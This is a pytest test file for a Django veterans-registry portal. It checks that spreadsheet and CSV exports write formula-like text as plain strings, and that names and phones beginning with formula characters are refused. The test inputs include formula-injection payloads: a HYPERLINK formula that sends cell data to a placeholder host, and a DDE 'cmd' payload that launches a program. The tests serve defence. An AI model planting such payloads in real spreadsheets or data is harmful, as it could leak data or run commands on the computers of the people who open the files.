"""Text is never a formula in a spreadsheet the portal writes (issue 15, finding 2).

Names, phones, summaries and imported cells starting with = + - @ (or a tab or
carriage return) became formulas in the exports (`=HYPERLINK(...)`,
`=cmd|' /C calc'!A0`). Such text is now written as a string cell, and names and
phones are refused at the door.
"""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command

from centres.models import User
from config.spreadsheets import FORMULA_PREFIXES, csv_row, xlsx_row
from tests.conftest import api_as
from tests.factories.veterans import id_number, veteran_make, visit_make
from tests.veterans.test_registry_pages import client_for
from veterans.imports import error_report_workbook, veterans_import
from veterans.models import AuditEntry, Veteran

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(content: bytes, *texts: str) -> None:
    cells = _cells(content)
    assert not [c.value for c in cells if c.data_type == "f"]
    for text in texts:
        # Kept as it was typed, as text (XML reads a carriage return as a line feed).
        [cell] = [c for c in cells if c.value == text.replace("\r", "\n")]
        assert cell.data_type == "s" and cell.quotePrefix


def _download(response: Any) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("sheet_kind", ["write_only", "normal"])
def test_the_helper_writes_formula_like_text_as_string_cells(sheet_kind: str) -> None:
    book = openpyxl.Workbook(write_only=sheet_kind == "write_only")
    sheet = book.create_sheet("x") if sheet_kind == "write_only" else book.active
    sheet.append(xlsx_row(sheet, [*PAYLOADS, "张三", 7, datetime.date(2026, 1, 2)]))
    buffer = io.BytesIO()
    book.save(buffer)
    _no_formulas(buffer.getvalue(), *PAYLOADS)
    values = [c.value for c in _cells(buffer.getvalue())]
    assert values[-3:] == ["张三", 7, datetime.datetime(2026, 1, 2)]  # the rest as it was


def test_the_csv_helper_puts_an_apostrophe_before_formula_like_text() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*PAYLOADS, "张三", -3]))
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[: len(PAYLOADS)] == [f"'{p}" for p in PAYLOADS]
    assert row[len(PAYLOADS):] == ["张三", "-3"]  # a number stays a number
    assert all(prefix in "".join(p[0] for p in PAYLOADS) for prefix in FORMULA_PREFIXES)


def test_the_registry_and_visit_exports_write_no_formula(alice: User) -> None:
    # Stored before the input rule, or by a path that bypassed it: the export holds.
    v = veteran_make("330681107201", name=PAYLOADS[0], phone="=1+1")
    visit_make(v, alice, summary=PAYLOADS[1])
    client = client_for(alice)
    _no_formulas(_download(client.get("/veterans/export.xlsx")), PAYLOADS[0], "=1+1")
    _no_formulas(_download(client.get("/visits/export.xlsx")), PAYLOADS[0], PAYLOADS[1])


def test_the_import_error_report_and_the_audit_export_write_no_formula(
    alice: User, tmp_path: Path
) -> None:
    _no_formulas(error_report_workbook([[2, "=1+1", PAYLOADS[1]]]), "=1+1", PAYLOADS[1])
    AuditEntry.objects.create(actor=alice, action="update", object_type="=1+2",
                              object_id="@x")
    target = tmp_path / "audit.xlsx"
    call_command("export_audit", str(target), stdout=io.StringIO())
    _no_formulas(target.read_bytes(), "=1+2", "@x")


@pytest.mark.parametrize("field", ["name", "phone"])
@pytest.mark.parametrize("payload", ["=1+1", "+8613800138000", "-1", "@a", "\t=1"])
def test_the_api_refuses_names_and_phones_that_start_like_a_formula(
    alice: User, field: str, payload: str
) -> None:
    data = {"name": "孙志强", "id_number": id_number(born=datetime.date(1975, 6, 1)),
            "region": "330681107201", field: payload}
    answer = api_as(alice).post("/api/v1/veterans/", data, format="json")
    assert answer.status_code == 400 and field in answer.json()
    assert not Veteran.objects.exists()


def test_the_registration_form_refuses_them_with_a_translated_message(alice: User) -> None:
    page = client_for(alice).post("/veterans/new/", {
        "name": "=HYPERLINK(1)", "phone": "@1", "region": "330681107201",
        "id_number": id_number(born=datetime.date(1975, 6, 1)),
    }, HTTP_ACCEPT_LANGUAGE="zh-hans")
    form = page.context["form"]
    assert set(form.errors) >= {"name", "phone"}
    assert "不能以" in form.errors["name"][0]
    assert not Veteran.objects.exists()


def test_the_import_refuses_them_row_by_row(alice: User, tmp_path: Path) -> None:
    path = tmp_path / "registry.csv"
    path.write_text(
        "姓名,公民身份号码,户籍所在地区划代码,联系电话\n"
        f"=cmd|' /C calc'!A0,{id_number(born=datetime.date(1975, 6, 1))},330681107201,\n"
        f"李明,{id_number(born=datetime.date(1976, 6, 1))},330681107201,+86138\n"
        f"王五,{id_number(born=datetime.date(1977, 6, 1))},330681107201,13800138000\n",
        encoding="utf-8",
    )
    result = veterans_import(path=path, mode="valid", by=alice)
    assert result.imported == 1
    assert sorted((row, column) for row, column, _problem in result.errors) == [
        (2, "姓名"), (3, "联系电话")]
    assert list(Veteran.objects.values_list("name", flat=True)) == ["王五"]
